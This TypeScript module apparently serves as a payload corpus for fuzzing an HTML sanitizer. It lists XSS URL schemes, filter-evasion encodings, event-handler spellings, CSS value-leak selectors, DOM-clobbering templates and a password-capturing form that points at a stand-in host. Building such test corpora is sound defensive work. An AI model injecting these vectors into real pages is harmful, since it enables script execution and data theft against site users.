/* What payloads are put together from; `@` stands for an address, a handler or a name. */

export const schemes = [
  'javascript:alarm(1)',
  'javascript://%0aalarm(1)',
  'javascript:"<svg/onload=alarm(1)>"',
  'vbscript:alarm(1)',
  'data:text/html,<script>alarm(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGFybSgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alarm(1)"/>',
  'data:application/xhtml+xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">alarm(1)</x:script>',
  'blob:https://alarm.example/1',
  'filesystem:https://alarm.example/temporary/x.html',
  'file:///etc/passwd',
  'view-source:https://alarm.example/',
  'chrome-extension://abcdefghijklmnop/popup.html',
  'moz-extension://11111111-2222-4333-8444-555555555555/popup.html',
  'https://alarm.example/asked',
  '//alarm.example/asked',
  'https:alarm.example/asked',
  '\\\\alarm.example\\asked',
];

export const disguises: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => url.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (url) => `\u0001\u001f ${url}`,
  (url) => ` \n\t${url}`,
  (url) => `\u00a0\u200b\ufeff${url}`,
  (url) => url.replace(':', '\t:\n'),
  (url) => [...url].join('\u0000').slice(0, 40),
  (url) => url.replace(/^../, (two) => `${two[0]}\t\r\n${two[1]}`),
  (url) => url.replace(':', '&colon;'),
  (url) => url.replace(/^./, (letter) => `&#${letter.charCodeAt(0)}`),
  (url) => url.replace(/^./, (letter) => `&#x00000${letter.charCodeAt(0).toString(16)};`),
  (url) => url.replace(/^../, (two) => `${two[0]}&Tab;&NewLine;${two[1]}`),
  (url) => `feed:${url}`,
  (url) => `jar:${url}!/`,
];

/** Where an address can stand: an element with `@` for it. */
export const addressed = [
  ...['<a href="@">x</a>', '<a href=@ target=_top>x</a>', '<a href=#x ping="@">x</a>', '<a href="@" download>x</a>'],
  ...['<area href="@">', '<map name=m><area href="@"></map><img usemap=#m src=/x.png>', '<base href="@">'],
  ...['<form action="@"><button>x</button></form>', '<button formaction="@">x</button>', '<isindex action="@">'],
  ...['<input type=image src="@">', '<input type=submit formaction="@" form=f>', '<form id=f></form>'],
  ...['<img src="@">', '<img src=/x.png srcset="@ 2x">', '<img lowsrc="@">', '<img dynsrc="@">', '<img longdesc="@">'],
  ...[
    '<picture><source srcset="@"><img src=/x.png></picture>',
    '<img loading=lazy data-src="@">',
    '<img src="@" sizes=auto>',
  ],
  ...[
    '<video src="@" autoplay></video>',
    '<video poster="@"></video>',
    '<video><source src="@"><track default src="@"></video>',
  ],
  ...['<audio src="@" autoplay></audio>', '<bgsound src="@">', '<embed src="@">', '<object data="@"></object>'],
  ...[
    '<object><param name=src value="@"><param name=movie value="@"></object>',
    '<object codebase="@" classid="@"></object>',
  ],
  ...[
    '<applet code="@" codebase="@" archive="@"></applet>',
    '<iframe src="@"></iframe>',
    '<frameset><frame src="@"></frameset>',
  ],
  ...[
    '<iframe srcdoc="<a href=\'@\'>x</a>"></iframe>',
    '<portal src="@"></portal>',
    '<fencedframe src="@"></fencedframe>',
  ],
  ...[
    '<link rel=stylesheet href="@">',
    '<link rel=prefetch href="@">',
    '<link rel=preconnect href="@">',
    '<link rel=manifest href="@">',
  ],
  ...[
    '<link rel=modulepreload href="@">',
    '<link rel=icon href="@">',
    '<link rel=import href="@">',
    '<link rel=dns-prefetch href="@">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=@">',
    '<meta http-equiv=Set-Cookie content="@">',
    '<html manifest="@">',
    '<head profile="@">',
  ],
  ...[
    '<body background="@">',
    '<table background="@"><td background="@">x</table>',
    '<blockquote cite="@">x</blockquote>',
    '<q cite="@">x</q>',
  ],
  ...[
    '<script src="@"></script>',
    '<script type=module src="@"></script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["@"]}]}</script>',
  ],
  ...[
    '<svg><a xlink:href="@"><text>x</text></a></svg>',
    '<svg><a href="@"><rect width=9 height=9 /></a></svg>',
    '<svg><use href="@"/></svg>',
  ],
  ...[
    '<svg><image href="@"/></svg>',
    '<svg><filter id=f><feImage href="@"/></filter></svg>',
    '<svg><script href="@"></script></svg>',
  ],
  ...[
    '<svg><a><animate attributeName=href values="@"/>x</a></svg>',
    '<svg><a><set attributeName=href to="@"/>x</a></svg>',
  ],
  ...['<svg><animate attributeName=xlink:href begin=0s from="@" to="@"/></svg>', '<svg style="fill:url(@#x)"></svg>'],
  ...[
    '<math href="@">x</math>',
    '<math><mi xlink:href="@">x</mi></math>',
    '<math><maction actiontype="statusline#@" xlink:href="@">x</maction></math>',
  ],
  ...['<math><semantics><annotation-xml encoding="text/html"><a href="@">x</a></annotation-xml></semantics></math>'],
  ...[
    '<a xml:base="@" href="x">x</a>',
    '<x-a href="@">x</x-a>',
    '<menuitem icon="@">',
    '<input src="@">',
    '<td background="@">',
  ],
  ...['<span class=katex aria-label="@"></span>', '<a class="embed" href="@">x</a>', '<ins cite="@">x</ins>'],
];

export const handlers = (
  'abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforeprint beforetoggle ' +
  'beforeunload begin blur bounce cancel canplay change click close command contentvisibilityautostatechange contextmenu ' +
  'copy cuechange cut dblclick drag dragend dragenter dragstart drop end error finish focus focusin focusout formdata ' +
  'fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message ' +
  'mousedown mouseenter mousemove mouseover mouseup mousewheel pagehide pageshow paste play playing pointerdown pointerenter ' +
  'pointerover pointerrawupdate popstate progress ratechange repeat reset resize scroll scrollend scrollsnapchange ' +
  'securitypolicyviolation seeked select selectionchange selectstart show slotchange start storage submit suspend ' +
  'timeupdate toggle touchstart transitionend unhandledrejection unload volumechange webkitanimationend wheel'
).split(' ');

export const bearers = [
  ...[
    '<img src=x @>',
    '<img src="/x.png" @>',
    '<svg @><circle r=1 /></svg>',
    '<svg><animate attributeName=x dur=1s @ /></svg>',
  ],
  ...['<body @>', '<input autofocus @>', '<select autofocus @><option>x</select>', '<textarea autofocus @></textarea>'],
  ...[
    '<details open @><summary>x</summary>y</details>',
    '<video src=x @></video>',
    '<audio><source src=x @></audio>',
    '<iframe @></iframe>',
  ],
  ...[
    '<marquee @>x</marquee>',
    '<a href=#x id=x tabindex=1 @>x</a>',
    '<p @>x</p>',
    '<x-a contenteditable autofocus @>x</x-a>',
  ],
  ...[
    '<button popovertarget=p @>x</button><div id=p popover @>y</div>',
    '<dialog open @>x</dialog>',
    '<style @></style>',
  ],
  ...['<math @><mi @>x</mi></math>', '<form @><button>x</button></form>', '<object data=x @></object>', '<td @>x</td>'],
];

export const spellings: readonly ((handler: string) => string)[] = [
  (handler) => `on${handler}=alarm(1)`,
  (handler) => `on${handler}="alarm(1)"`,
  (handler) => `oN${handler.toUpperCase()}='alarm(1)'`,
  (handler) => `on${handler}\n=\n"alarm&lpar;1&rpar;"`,
  (handler) => `x/on${handler}=alarm\`1\`/`,
  (handler) => `"on${handler}=alarm(1)`,
  (handler) => `\u000con${handler}=alarm(1)//`,
  (handler) => `style="animation:x" on${handler}=alarm(1)`,
];

export const declarations = [
  'position:fixed;inset:0;z-index:2147483647;background:red',
  'position:absolute;top:-9999px;width:99999px;height:99999px',
  'background:url(@)',
  'background:url("@" ) fixed',
  'background-image:image-set("@" 1x)',
  'list-style:url(@);content:url(@);cursor:url(@),auto',
  'font-family:x;src:url(@)',
  'behavior:url(@);-moz-binding:url(@)',
  'width:expression(alarm(1))',
  'mask:url(@);clip-path:url(@#x);filter:url(@#x)',
  'transform:scale(99);margin:-999em;opacity:.01',
  '--x:url(@);border-image:var(--x)',
  'animation:x 1s;transition:all 1s;view-transition-name:x',
  'b\\61 ckground:u\\72l(@)',
];

export const sheets = [
  '@import url(@);',
  '@font-face{font-family:x;src:url(@);unicode-range:U+0041}*{font-family:x}',
  'input[value^=a]{background:url(@)}',
  ':host{display:none!important}article{visibility:hidden}',
  ':root,understory-reader{position:fixed!important;inset:0}',
  '*{background:url(@)!important}',
  '@namespace url(@);@charset "@";',
];

/** What documents and elements would answer to our questions, were an element of that name allowed to. */
export const names = (
  'body head title documentElement URL baseURI cookie location defaultView querySelector querySelectorAll getElementById ' +
  'createElement createTreeWalker childNodes firstChild nextSibling parentNode parentElement ownerDocument textContent ' +
  'nodeType nodeName localName namespaceURI attributes getAttribute hasAttribute hasAttributes className classList ' +
  'closest matches contains shadowRoot innerHTML remove append style dataset chrome browser alarm understoryReader ' +
  'understoryPurify __proto__ constructor toString valueOf length namedItem submit action elements'
).split(' ');
export const clobberers = [
  ...[
    '<form name="@"><input name="@"></form>',
    '<img name="@" src=/x.png>',
    '<a id="@"></a><a id="@" name=href href=x></a>',
  ],
  ...[
    '<form><input name="@"><p>x</p></form>',
    '<iframe name="@"></iframe>',
    '<object id="@"></object>',
    '<embed name="@">',
  ],
];

export const statics = [
  '<button is="x-alarm" onclick=alarm(1)>x</button>',
  '<x-alarm style="position:fixed;inset:0" onclick=alarm(1)>x</x-alarm>',
  '<understory-reader ready complete>x</understory-reader>',
  '<understory-pointer>x</understory-pointer>',
  '<button command=show-modal commandfor=d>x</button><dialog id=d oncommand=alarm(1)>y</dialog>',
  '<button popovertarget=d popovertargetaction=show>x</button><div id=d popover=manual style="inset:0">y</div>',
  '<button invoketarget=d invokeaction=x interesttarget=d>x</button>',
  '<input form=search formaction="https://alarm.example/asked" type=submit value=x><input type=password name=password>',
  '<label for=note>x</label><output for=note>y</output>',
  '<p contenteditable tabindex=0 accesskey=s autofocus inert draggable=true>x</p>',
  '<p slot=x part=head exportparts="a,b" class="head sr row" id=heading role=alert aria-live=assertive>x</p>',
  '<div itemscope itemtype=x data-understory=1 nonce=x popover=auto anchor=x virtualkeyboardpolicy=manual>x</div>',
  '<meta name=referrer content=unsafe-url><meta name=color-scheme content=dark><meta http-equiv=Content-Security-Policy content="script-src *">',
  '<a href="https://alarm.example/asked" attributionsrc="https://alarm.example/asked">x</a>',
  '<img src=/x.png attributionsrc="https://alarm.example/asked" crossorigin=use-credentials>',
  '<video controls autoplay loop src="https://alarm.example/asked" poster="https://alarm.example/asked"></video>',
  '<keygen autofocus onfocus=alarm(1)><command onclick=alarm(1)><xss onbeforescriptexecute=alarm(1)>',
  '<ol start=99999999999 type="a onclick=alarm(1)"><li value="1e9">x</ol>',
  '<td colspan=999999 rowspan=999999>x</td><table><td colspan=65535>x</table>',
  '<time datetime="<script>alarm(1)</script>">now</time>',
  `<abbr title="${'x'.repeat(5_000)}">x</abbr>`,
];
